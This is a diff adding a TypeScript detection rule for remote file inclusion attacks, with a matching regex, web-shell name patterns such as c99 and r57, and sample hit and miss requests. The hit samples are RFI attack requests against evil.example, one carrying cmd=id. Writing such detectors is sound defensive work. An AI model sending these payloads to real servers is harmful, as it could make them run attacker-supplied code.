@@ -1,0 +1,36 @@
+import { defineRule } from '../rule.ts'
+
+export default defineRule({
+  id: 'rfi/remote-script',
+  title: 'Remote script as a parameter (RFI)',
+  why: 'The value is the address of a script or text file on another server, often with a trailing ?; an include would run it.',
+  ja: {
+    title: '外部スクリプトの読み込み(RFI)',
+    why: '値が他のサーバー上のスクリプトやテキストファイルのアドレスです(末尾に「?」が付くことも多い)。インクルードされると実行されます。',
+  },
+  severity: 'high',
+  stage: 'inject',
+  attack: ['T1105', 'T1190'],
+  cwe: [98],
+  refs: [
+    'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.2-Testing_for_Remote_File_Inclusion',
+    'https://cwe.mitre.org/data/definitions/98.html',
+  ],
+
+  where: ['arg'],
+  needs: [['http://', 'https://', 'ftp://', 'ftps://', 'http:\\', '=//']],
+  match:
+    /=\s?(?:(?:https?|ftps?):|\b)[/\\]{2}[^\s"<>]{3,300}(?:\.(?:txt|php\d?|inc|gif|jpe?g|png|dat|log|pl|cgi|sh|py|bmp)\?{1,3}(?:$|cmd=|&)|\?{2}$)|=\s?(?:https?|ftps?):\/\/[^\s"<>?]{3,300}(?:c99|r57|shell|cmd|exec|backdoor|bypass|safe\d?|idx?|echo|fx29\w*|byroe|response|copyright)\.?(?:txt|php\d?|gif|jpe?g|sh)\b|=\s?(?:https?|ftps?):\/\/[^\s"<>?]{3,300}\.sh(?:$|[?#])/i,
+
+  hits: [
+    'GET /index.php?page=http://evil.example/x.txt? HTTP/1.1',
+    'GET /a.php?dir=ftp://evil.example/shell.gif?cmd=id HTTP/1.1',
+    'GET /a.php?x=http%3A%2F%2Fevil.example%2Fa%3F%3F HTTP/1.1',
+    'GET /a.php?conf=http://evil.example/c99.txt HTTP/1.1',
+  ],
+  misses: [
+    'GET /go?url=http://example.org/index.php HTTP/1.1',
+    'GET /go?url=http://example.org/view.php?id=4 HTTP/1.1',
+    'GET /thumb?src=http://example.org/cat.jpg HTTP/1.1',
+  ],
+})
